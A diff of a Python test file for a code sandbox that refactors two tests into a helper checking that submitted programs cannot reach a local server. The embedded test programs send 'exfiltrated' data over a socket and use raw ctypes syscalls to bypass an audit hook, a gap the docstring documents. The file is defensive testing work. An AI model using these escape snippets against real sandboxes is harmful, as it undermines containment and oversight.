@@ -113,48 +113,40 @@ assert "hunter2-secret" in seen
     assert "MEGAOPD_TEST_SECRET" not in sandbox._scrubbed_env("/x")
 
 
-def test_network_connection(mode):
+def assert_never_reaches_a_local_server(program) -> None:
+    """`program(port)` is the attack's source; it scores 0 and nothing connects to the server on that port."""
     server = socket.socket()
     server.bind(("127.0.0.1", 0))
     server.listen()
     server.settimeout(0.5)
-    port = server.getsockname()[1]
-    body = f"""
-import socket
-s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
-s.sendall(b"exfiltrated")
-"""
     try:
-        assert attack(body)[0] == 0.0
+        assert attack(program(server.getsockname()[1]))[0] == 0.0
         with pytest.raises(socket.timeout):
             server.accept()
     finally:
         server.close()
+
+
+def test_network_connection(mode):
+    assert_never_reaches_a_local_server(lambda port: f"""
+import socket
+s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
+s.sendall(b"exfiltrated")
+""")
 
 
 def test_raw_syscall_network_needs_the_namespace(mode):
     """ctypes goes around the audit hook; only the network namespace stops it (the documented fallback gap)."""
     if mode != "namespaces":
         pytest.skip("the audit-hook fallback does not stop raw socket syscalls")
-    server = socket.socket()
-    server.bind(("127.0.0.1", 0))
-    server.listen()
-    server.settimeout(0.5)
-    port = server.getsockname()[1]
-    body = f"""
+    assert_never_reaches_a_local_server(lambda port: f"""
 import ctypes, struct
 libc = ctypes.CDLL(None, use_errno=True)
 fd = libc.socket(2, 1, 0)
 addr = struct.pack("!HH4s8x", 2, {port}, bytes([127, 0, 0, 1]))
 addr = struct.pack("=H", 2) + addr[2:]
 assert libc.connect(fd, addr, len(addr)) == 0
-"""
-    try:
-        assert attack(body)[0] == 0.0
-        with pytest.raises(socket.timeout):
-            server.accept()
-    finally:
-        server.close()
+""")
 
 
 def test_signalling_the_parent(mode):
